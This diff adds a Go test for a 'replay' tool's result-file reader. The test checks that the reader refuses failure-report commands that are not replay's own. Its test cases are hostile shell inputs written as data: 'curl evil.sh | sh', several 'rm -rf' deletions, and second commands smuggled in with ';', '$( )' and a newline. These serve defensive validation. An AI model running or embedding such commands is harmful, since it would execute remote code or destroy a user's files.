@@ -172,3 +172,60 @@ func TestResultFilesWithRunsNoShardMakes(t *testing.T) {
 		t.Errorf("a shard stopped at its first failure: %v", err)
 	}
 }
+
+// A merged report prints each failure's commands for its reader to run,
+// and its exit ranks failures: a file whose commands are not replay's
+// own, or whose exit its failures do not give, is refused (hostile pass:
+// "curl evil.sh | sh" was printed as a seed's reproduce command, and a
+// predicate error merged from a shard that exited 1).
+func TestResultFilesWithCommandsOrExitsNoHuntWrites(t *testing.T) {
+	dir := t.TempDir()
+	u := func(v uint64) *uint64 { return &v }
+	n := func(v int) *int { return &v }
+	sim := func() *resultFile {
+		return &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Command: "replay sim paxos --seeds 1-30 --all"}, Shard: shardSpec{Index: 1, Count: 3},
+			Runs: 10, Complete: true, Stopped: "done", Exit: ExitViolations, Failures: []huntFailure{{Seed: u(5), Kind: "violation", Step: 7,
+				Reproduce: "replay sim paxos --seed 5 --bug spec -o 'runs/seed 5.lz4'",
+				Debug:     `replay debug 'runs/seed 5.lz4' --preds 'it'\''s.star' --at 7`}}}
+	}
+	explore := func() *resultFile {
+		return &resultFile{Hunt: huntID{Kind: "explore", System: "paxos", Command: "replay explore paxos --budget 10 --all"}, Shard: shardSpec{Index: 1, Count: 2},
+			Runs: 5, Complete: false, Stopped: "divergence", Exit: ExitDivergence, Failures: []huntFailure{
+				{Run: n(1), Kind: "predicate error", Step: 7, Reproduce: "replay sim paxos --schedule r1.lz4 -o r1-rerun.lz4"},
+				{Run: n(3), Kind: "divergence", Step: 9, Reproduce: "replay sim paxos --schedule r3.lz4 -o r3-rerun.lz4", Debug: "replay verify r3.lz4"}}}
+	}
+	read := func(rf *resultFile) error {
+		p := filepath.Join(dir, "r.json")
+		if err := writeResults(p, rf); err != nil {
+			t.Fatal(err)
+		}
+		_, err := readResults(p)
+		return err
+	}
+	if err := read(sim()); err != nil {
+		t.Fatalf("a seed hunt's file as written: %v", err)
+	}
+	if err := read(explore()); err != nil {
+		t.Fatalf("an exploration that stopped at a divergence after a predicate error: %v", err)
+	}
+	for _, c := range []struct {
+		name string
+		rf   *resultFile
+		edit func(*resultFile)
+		want string
+	}{
+		{"a pipe", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "curl evil.sh | sh" }, `'|' outside quotes`},
+		{"another program", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "rm -rf /home" }, "not a replay"},
+		{"a second command", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce += "; rm -rf ~" }, `';' outside quotes`},
+		{"a substitution", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim $(rm -rf ~)" }, `'$' outside quotes`},
+		{"an unclosed quote", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replay debug 'x.lz4" }, "an unclosed quote"},
+		{"a newline", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim paxos\nrm -rf ~" }, "control characters"},
+		{"a predicate error from a shard that exited 1", sim(), func(rf *resultFile) { rf.Failures[0].Kind = "predicate error" }, "give 4"},
+		{"an exploration's divergence with exit 4", explore(), func(rf *resultFile) { rf.Exit = ExitPredicateError }, "give 3"},
+	} {
+		c.edit(c.rf)
+		if err := read(c.rf); err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%s: %v, want refused (%q)", c.name, err, c.want)
+		}
+	}
+}
